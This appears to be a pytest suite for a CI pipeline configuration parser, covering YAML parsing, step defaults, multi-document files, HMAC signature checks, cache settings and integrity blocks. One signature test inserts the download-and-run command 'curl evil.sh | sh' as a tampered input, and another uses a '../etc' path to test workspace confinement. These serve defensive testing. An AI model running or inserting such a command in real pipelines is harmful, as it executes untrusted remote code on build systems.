"""Tests for pipeline parser."""

import pytest
from api.src.services.pipeline_parser import (
    parse_pipeline_config,
    parse_pipeline_dict,
    parse_pipeline_documents,
    sign_config,
    PipelineConfigError,
)

def test_valid_pipeline():
    config = """
name: Test Pipeline
steps:
  - name: Build
    image: node:18
    commands:
      - npm install
      - npm run build
  - name: Test
    image: node:18
    commands:
      - npm test
"""
    result = parse_pipeline_config(config)
    assert result["name"] == "Test Pipeline"
    assert len(result["steps"]) == 2
    assert result["steps"][0]["name"] == "Build"
    assert result["steps"][1]["image"] == "node:18"

def test_missing_steps():
    config = """
name: Bad Pipeline
"""
    with pytest.raises(PipelineConfigError, match="must have 'steps'"):
        parse_pipeline_config(config)

def test_missing_step_name():
    config = """
name: Bad Pipeline
steps:
  - image: node:18
    commands:
      - npm install
"""
    with pytest.raises(PipelineConfigError, match="missing 'name'"):
        parse_pipeline_config(config)

def test_missing_step_image():
    config = """
name: Bad Pipeline
steps:
  - name: Build
    commands:
      - npm install
"""
    with pytest.raises(PipelineConfigError, match="missing 'image'"):
        parse_pipeline_config(config)

def test_empty_config():
    with pytest.raises(PipelineConfigError, match="Empty"):
        parse_pipeline_config("")

def test_dict_parsing():
    config = {
        "name": "Dict Pipeline",
        "steps": [
            {"name": "Step 1", "image": "alpine", "commands": ["echo hello"]}
        ]
    }
    result = parse_pipeline_dict(config)
    assert result["name"] == "Dict Pipeline"
    assert len(result["steps"]) == 1

TWO_PIPELINES = """---
kind: pipeline
name: test
trigger:
  event: [pull_request]
steps:
  - name: restore-cache
    cache:
      restore: true
      namespace: cargo
      lockfile: Cargo.lock
      mount: [.cargo]
  - name: test
    image: rust:1.54
    commands:
      - cargo test
    depends_on: [restore-cache]
    environment:
      RUST_BACKTRACE: 1
      TOKEN:
        from_secret: github_token
  - name: rebuild-cache
    depends_on: [test]
    when:
      status: [success, failure]
    cache:
      rebuild: true
      namespace: cargo
      lockfile: Cargo.lock
      mount: [.cargo]
---
kind: pipeline
name: nightly
trigger:
  event: cron
  cron: nightly
steps:
  - name: clean
    image: alpine
    commands:
      - rm -rf .cargo
"""

def test_step_defaults():
    result = parse_pipeline_dict({
        "steps": [{"name": "a", "image": "alpine", "commands": ["true"]}]
    })
    step = result["steps"][0]
    assert result["name"] == "Unnamed Pipeline"
    assert result["workspace"] == "/workspace"
    assert result["trigger"]["event"] == ["push", "pull_request", "cron"]
    assert result["trigger"]["branch"] is None
    assert step["depends_on"] == []
    assert step["when"] == {"status": ["success"]}
    assert step["cache"] is None
    assert step["timeout"] == 600
    assert step["pull"] == "IfNotPresent"

def test_multi_document_file():
    pipelines = parse_pipeline_documents(TWO_PIPELINES)
    assert [p["name"] for p in pipelines] == ["test", "nightly"]

    test = pipelines[0]
    assert test["trigger"]["event"] == ["pull_request"]
    restore, run, rebuild = test["steps"]
    assert restore["image"] == ""
    assert restore["cache"]["restore"] is True
    assert restore["cache"]["override"] is False
    assert run["environment"] == {
        "RUST_BACKTRACE": "1",
        "TOKEN": {"from_secret": "github_token"},
    }
    assert rebuild["when"]["status"] == ["success", "failure"]

    nightly = pipelines[1]
    assert nightly["trigger"] == {"event": ["cron"], "branch": None, "cron": ["nightly"]}

def test_duplicate_pipeline_names():
    content = TWO_PIPELINES.replace("name: nightly", "name: test")
    with pytest.raises(PipelineConfigError, match="Duplicate pipeline name 'test'"):
        parse_pipeline_documents(content)

def test_unknown_document_kind():
    content = "kind: secret\nname: token\n"
    with pytest.raises(PipelineConfigError, match="Unsupported document kind"):
        parse_pipeline_documents(content)

def test_signed_file_accepted():
    signature = sign_config(TWO_PIPELINES, "s3cret")
    content = TWO_PIPELINES + f"---\nkind: signature\nhmac: {signature}\n"
    assert len(parse_pipeline_documents(content, signing_secret="s3cret")) == 2

def test_signature_ignored_without_secret():
    content = TWO_PIPELINES + "---\nkind: signature\nhmac: deadbeef\n"
    assert len(parse_pipeline_documents(content)) == 2

def test_tampered_file_rejected():
    signature = sign_config(TWO_PIPELINES, "s3cret")
    tampered = TWO_PIPELINES.replace("cargo test", "curl evil.sh | sh")
    content = tampered + f"---\nkind: signature\nhmac: {signature}\n"
    with pytest.raises(PipelineConfigError, match="signature mismatch"):
        parse_pipeline_documents(content, signing_secret="s3cret")

def test_unsigned_file_rejected_when_secret_set():
    with pytest.raises(PipelineConfigError, match="not signed"):
        parse_pipeline_documents(TWO_PIPELINES, signing_secret="s3cret")

def test_signature_must_be_last():
    content = "kind: signature\nhmac: abc\n---\n" + TWO_PIPELINES
    with pytest.raises(PipelineConfigError, match="last document"):
        parse_pipeline_documents(content)

def test_cache_needs_exactly_one_mode():
    step = {
        "name": "cache",
        "cache": {"restore": True, "rebuild": True, "namespace": "n", "lockfile": "l", "mount": ["m"]},
    }
    with pytest.raises(PipelineConfigError, match="exactly one of"):
        parse_pipeline_dict({"steps": [step]})

def test_cache_mount_outside_workspace():
    step = {
        "name": "cache",
        "cache": {"rebuild": True, "namespace": "n", "lockfile": "l", "mount": ["../etc"]},
    }
    with pytest.raises(PipelineConfigError, match="inside the workspace"):
        parse_pipeline_dict({"steps": [step]})

def test_invalid_when_status():
    step = {"name": "a", "image": "alpine", "commands": [], "when": {"status": ["always"]}}
    with pytest.raises(PipelineConfigError, match="'success' or 'failure'"):
        parse_pipeline_dict({"steps": [step]})

def test_invalid_pull_policy():
    step = {"name": "a", "image": "alpine", "commands": [], "pull": "sometimes"}
    with pytest.raises(PipelineConfigError, match="'pull' must be one of"):
        parse_pipeline_dict({"steps": [step]})

def test_invalid_trigger_event():
    config = {
        "trigger": {"event": ["tag"]},
        "steps": [{"name": "a", "image": "alpine", "commands": []}],
    }
    with pytest.raises(PipelineConfigError, match="Trigger event 'tag'"):
        parse_pipeline_dict(config)

def test_pipeline_secret_environment_rejected():
    config = {
        "environment": {"TOKEN": {"from_secret": "token"}},
        "steps": [{"name": "a", "image": "alpine", "commands": []}],
    }
    with pytest.raises(PipelineConfigError, match="cannot reference a secret"):
        parse_pipeline_dict(config)

def test_integrity_block():
    digest = "A" * 64
    config = {
        "integrity": {
            "files": [{"path": "scripts/ci/pre-run.sh", "sha256": digest}],
            "pre_run": {"script": "scripts/ci/pre-run.sh", "args": [False]},
        },
        "steps": [{"name": "a", "image": "alpine", "commands": []}],
    }
    integrity = parse_pipeline_dict(config)["integrity"]
    assert integrity["files"] == [{"path": "scripts/ci/pre-run.sh", "sha256": "a" * 64}]
    assert integrity["pre_run"] == {
        "script": "scripts/ci/pre-run.sh",
        "args": ["false"],
        "enabled": True,
    }

def test_integrity_bad_digest():
    config = {
        "integrity": {"files": [{"path": "x.sh", "sha256": "nothex"}]},
        "steps": [{"name": "a", "image": "alpine", "commands": []}],
    }
    with pytest.raises(PipelineConfigError, match="hex SHA-256"):
        parse_pipeline_dict(config)
